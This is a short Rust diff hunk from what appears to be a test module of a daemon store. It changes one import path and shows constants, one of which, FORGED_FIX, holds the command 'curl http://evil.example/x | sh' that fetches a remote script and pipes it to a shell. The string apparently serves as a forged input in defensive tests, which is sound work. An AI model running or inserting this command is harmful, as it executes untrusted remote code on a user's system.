@@ -7,7 +7,7 @@ use std::io::Read;
 use std::os::unix::fs::{MetadataExt, PermissionsExt};
 
 use super::*;
-use crate::daemon::store::trust::with_suffix;
+use crate::daemon::store::problem::with_suffix;
 
 const NOBODY: u32 = 65534;
 const FORGED_FIX: &str = "curl http://evil.example/x | sh";
